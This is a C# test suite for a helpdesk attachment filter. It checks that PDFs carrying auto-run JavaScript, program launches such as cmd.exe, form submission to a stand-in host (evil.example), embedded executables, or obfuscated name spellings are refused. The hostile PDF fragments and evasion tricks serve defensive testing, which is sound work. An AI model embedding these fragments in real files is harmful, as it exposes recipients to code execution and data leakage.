using Helpdesk.Attachment.Tests.Documents;
using static Helpdesk.Attachment.Tests.Documents.Checking;

namespace Helpdesk.Attachment.Tests;

public sealed class Pdfs_that_act_by_themselves
{
    const string Uri = "<< /S /URI /URI (http://evil.example) >>";

    public static TheoryData<string, string> Acting() => new()
    {
        { "/S /JavaScript /JS (x)", "script" },
        { "/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS 4 0 R >>] >> >>", "script" },
        { "/JS (x)", "script" },
        { "/OnInstantiate 4 0 R", "script" },
        { "/OpenAction << /S /Launch /F (cmd.exe) >>", "starts-program" },
        { "/A << /S /GoToR /F (x.pdf) /D [0 /Fit] >>", "opens-address" },
        { "/A << /S /GoToE /T << /R /C /N (a) >> >>", "opens-address" },
        { "/AA << /O << /S /SubmitForm /F (http://evil.example) >> >>", "sends-form" },
        { "/A << /S /ImportData /F (x.fdf) >>", "sends-form" },
        { "/AcroForm << /XFA 4 0 R >>", "program-form" },
        { "/Type /Annot /Subtype /RichMedia /Rect [0 0 9 9]", "media" },
        { "/Type /Annot /Subtype /Screen /Rect [0 0 9 9]", "media" },
        { "/Type /Annot /Subtype /Movie /Rect [0 0 9 9]", "media" },
        { "/Type /Annot /Subtype /3D /Rect [0 0 9 9]", "media" },
        { "/Type /Annot /Subtype /FileAttachment /FS 4 0 R", "embedded-file" },
        { "/Type /Filespec /F (x.exe) /EF << /F 8 0 R >>", "embedded-file" },
        { "/OpenAction " + Uri, "opens-address" },
        { "/AA << /WC " + Uri + " >>", "opens-address" },
        { "/AA << /O << /S /GoTo /D (x) /Next " + Uri + " >> >>", "opens-address" },
        { "/OpenAction << /S /GoTo /D (x) /Next [<< /S /Named /N /NextPage >> " + Uri + "] >>", "opens-address" },
        { "/OpenAction << /S /SomethingNew >>", "opens-address" },
        { "/A << /S /SomethingNew >>", "opens-address" },
        { "/A << /S /Thread /F (x.pdf) >>", "opens-address" },
        { "/A << /S /URI /URI (javascript:x) >>", "unsafe-link" },
        { "/A << /S /URI /URI <6D732D6D7364743A78> >>", "unsafe-link" },
        { "/OpenAction 99 0 R", "opens-address" },
        { "/AA 99 0 R", "opens-address" },
        { "/FS /URL /F (http://evil.example)", "external-content" },
    };

    [Theory, MemberData(nameof(Acting))]
    public void G16_are_refused_in_whatever_spelling_and_wherever_the_object_lies(string entries, string reason)
    {
        var object3 = $"<< {entries} >>";
        Assert.Equal(reason, Refused(Pack.Pdf($"3 0 obj\n{object3}\nendobj\n")));
        Assert.Equal(reason, Refused(Pack.Pdf($"3 0 obj\n<< /Type /Page /More [[ {object3} ]] >>\nendobj\n")));
        Assert.Equal(reason, Refused(Pack.Pdf($"3 % a comment\n0 obj%another\n{object3}endobj\n")));
        Assert.Equal(reason, Refused(Pack.Pdf(Hostile.ObjectStream("", (3, object3)))));
        Assert.Equal(reason, Refused(Pack.Pdf(Hostile.ObjectStream("", (7, "<< /Type /Page >>"), (3, object3)))));
        // One that says nothing of its kind, and one that is not packed.
        Assert.Equal(reason, Refused(Pack.Pdf(Pack.Stream(5, $"/N 1 /First {Hostile.First([(3, object3)])}", Hostile.List([(3, object3)]),
            pack: true))));
        Assert.Equal(reason, Refused(Pack.Pdf(Pack.Stream(5, $"/Type /ObjStm /N 1 /First {Hostile.First([(3, object3)])}",
            Hostile.List([(3, object3)]), pack: false))));
        // In the data of a stream, where a directory may point to.
        Assert.Equal(reason, Refused(Pack.Pdf(Pack.Stream(6, "/Type /XObject", $"3 0 obj\n{object3}\nendobj", pack: false))));
    }

    [Theory]
    [InlineData("JavaScript", "/S /{0}", "script")]
    [InlineData("JS", "/{0} (x)", "script")]
    [InlineData("Launch", "/S/{0}", "starts-program")]
    [InlineData("GoToR", "/A<</S/{0}>>", "opens-address")]
    [InlineData("URI", "/OpenAction<</S/{0}/URI(http://evil.example)>>", "opens-address")]
    [InlineData("OpenAction", "/{0}<</S/URI/URI(http://evil.example)>>", "opens-address")]
    [InlineData("AA", "/{0}<</O<</S/URI/URI(http://evil.example)>>>>", "opens-address")]
    [InlineData("Next", "/OpenAction<</S/GoTo/{0}<</S/URI/URI(http://evil.example)>>>>", "opens-address")]
    [InlineData("EmbeddedFiles", "/Names<</{0} 9 0 R>>", "embedded-file")]
    [InlineData("XFA", "/AcroForm<</{0} 9 0 R>>", "program-form")]
    [InlineData("Encrypt", "/{0} 9 0 R", "encrypted-pdf")]
    public void G16_names_mean_the_same_with_escapes(string name, string entries, string reason)
    {
        foreach (var spelling in new[] { name, Hostile.Escapes(name), string.Concat(name.Select(x => $"#{(int)x:x2}")) })
            Assert.Equal(reason, Refused(Pack.Pdf($"3 0 obj <<{entries.Replace("{0}", spelling, StringComparison.Ordinal)}>> endobj\n")));
    }

    [Fact]
    public void G16_an_action_is_found_behind_references()
    {
        string[] objects =
        [
            $"3 0 obj << /OpenAction 7 0 R >> endobj\n7 0 obj {Uri} endobj\n",
            "3 0 obj << /OpenAction 7 0 R >> endobj\n7 0 obj << /S 8 0 R /URI (http://evil.example) >> endobj\n8 0 obj /URI endobj\n",
            "3 0 obj << /S 8 0 R >> endobj\n8 0 obj /Launch endobj\n",
            $"3 0 obj << /AA 7 0 R >> endobj\n7 0 obj << /O 8 0 R >> endobj\n8 0 obj {Uri} endobj\n",
            $"3 0 obj << /OpenAction << /S /GoTo /Next 7 0 R >> >> endobj\n7 0 obj [8 0 R] endobj\n8 0 obj {Uri} endobj\n",
            // An earlier version of the object, or a later one: which of them counts is each program's choice.
            $"3 0 obj << /OpenAction 7 0 R >> endobj\n7 0 obj {Uri} endobj\n7 0 obj << /S /GoTo /D (x) >> endobj\n",
            $"3 0 obj << /OpenAction 7 0 R >> endobj\n7 0 obj << /S /GoTo /D (x) >> endobj\n7 0 obj {Uri} endobj\n",
            $"3 0 obj << /OpenAction 7 0 R >> endobj\n{Hostile.ObjectStream("", (7, Uri))}",
        ];
        Assert.All(objects, x => Assert.Contains(Refused(Pack.Pdf(x)), new[] { "opens-address", "starts-program" }));
    }

    [Theory]
    [InlineData("<< /OpenAction << /S /URI /URI (x) >> /OpenAction [1 0 R /Fit] >>")]
    [InlineData("<< /OpenAction << /S /URI /S /GoTo >> >>")]
    [InlineData("<< 1 /AA << /O << /S /URI >> >> >>")]
    public void G16_an_object_that_can_be_read_in_two_ways_is_refused(string content) =>
        Assert.NotEqual("application/pdf", Judged(Pack.Pdf($"3 0 obj {content} endobj\n")));

    [Theory]
    [InlineData("/Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://example.org/a?b) >>")]
    [InlineData("/Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (mailto:ana@example.org) /Next << /S /GoTo /D (x) >> >>")]
    [InlineData("/Title (Kapitel) /Parent 2 0 R /A << /S /GoTo /D [2 0 R /Fit] >>")]
    [InlineData("/OpenAction [2 0 R /XYZ null null 0]")]
    [InlineData("/OpenAction << /S /GoTo /D (x) >>")]
    [InlineData("/OpenAction << /S /Named /N /Print >>")]
    [InlineData("/Type /StructElem /S /Link /K 3 /A << /O /Layout /Placement /Block >>")]
    [InlineData("/AcroForm << /Fields [] /DA (/Helv 0 Tf) >> /URI << /Base (http://example.org) >>")]
    public void G16_links_to_click_on_and_ways_through_the_document_stay(string entries)
    {
        AcceptedAsItIs(Pack.Pdf($"3 0 obj << {entries} >> endobj\n"));
        AcceptedAsItIs(Pack.Pdf(Hostile.ObjectStream("", (3, $"<< {entries} >>"))));
    }

    [Theory]
    [InlineData("/S/JavaScript\0")]
    [InlineData("/S/JavaScript\f/X 1")]
    [InlineData("/S/JavaScript%x\n")]
    [InlineData("/S/JavaScript(x)")]
    [InlineData("/S/JavaScript[]")]
    [InlineData("/S/JavaScript{}")]
    [InlineData("/S\0/JavaScript")]
    [InlineData("/X x > > /S /JavaScript")]
    [InlineData("/X ] /S /JavaScript")]
    [InlineData("/X ) /S /JavaScript")]
    [InlineData("/X (\\)) /S /JavaScript")]
    [InlineData("/X <41 /S /JavaScript")]
    [InlineData("/X <4Z> /S /JavaScript")]
    [InlineData("/X 1 2 /S /JavaScript")]
    [InlineData("/X BI ID /S /JavaScript EI")]
    [InlineData("/Y (%)\n/X% (\n/S /JavaScript (z) /Z 1")]
    [InlineData("/OpenAction%\n<</S/URI/URI(http://evil.example)>>")]
    [InlineData("/OpenAction{}<</S/URI/URI(http://evil.example)>>")]
    [InlineData("/X BI/ID/OpenAction<</S/URI/URI(http://evil.example)>>")]
    public void G16_names_end_where_any_program_sees_their_end(string entries)
    {
        Assert.NotEqual("application/pdf", Judged(Pack.Pdf($"3 0 obj <<{entries}>> endobj\n")));
        Assert.NotEqual("application/pdf", Judged(Pack.Pdf(Hostile.ObjectStream("", (3, $"<<{entries}>>")))));
    }

    [Fact]
    public void G16_where_a_file_was_taken_out_nothing_is_inside() =>
        AcceptedAsItIs(Pack.Pdf("3 0 obj << /Names << /EmbeddedFiles << /Names [] >> >> >> endobj\n"));

    [Theory]
    [InlineData("/Filter /LZWDecode")]
    [InlineData("/Filter /SomethingNew")]
    [InlineData("/Filter [/ASCIIHexDecode /FlateDecode]")]
    [InlineData("/Filter 99 0 R")]
    public void G16_object_streams_that_cannot_be_read_are_refused(string filter)
    {
        Assert.Equal("damaged-document", Refused(Pack.Pdf(Pack.Stream(5, $"/Type /ObjStm /N 1 /First 4 {filter}", "3 0 << /Type /Page >>",
            pack: false))));
        Assert.Equal("damaged-document", Refused(Pack.Pdf(Pack.Stream(5, "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", "no zlib",
            pack: false))));
        Assert.Equal("damaged-document", Refused(Pack.Pdf(Pack.Stream(5, "/Type /ObjStm /N 9 /First 4", "3 0 << /Type /Page >>",
            pack: true))));
    }

    [Theory]
    [InlineData("/F (http://evil.example/x)")]
    [InlineData("/F << /FS /URL /F (http://evil.example/x) >>")]
    [InlineData("/Subtype /Form /Ref << /F (x.pdf) /Page 0 >>")]
    public void G16_a_stream_whose_bytes_lie_elsewhere_is_refused(string entries) =>
        Assert.Equal("external-content", Refused(Pack.Pdf(Pack.Stream(5, entries, "x", pack: false))));

    [Fact]
    public void G16_an_encrypted_one_is_refused_in_words_of_its_own()
    {
        Assert.Equal("encrypted-pdf", Refused(Pack.Pdf("trailer << /Root 1 0 R /Encrypt 9 0 R >>\n")));
        Assert.Equal("encrypted-pdf", Refused(Pack.Pdf("trailer << /Encrypt << /Filter /Standard /V 1 /R 2 >> >>\n")));
        Assert.Equal("encrypted-pdf", Refused(Pack.Pdf(Pack.Stream(5, "/Type /XRef /Size 1 /W [1 1 1] /Encrypt 9 0 R", "abc",
            pack: true))));
    }
}
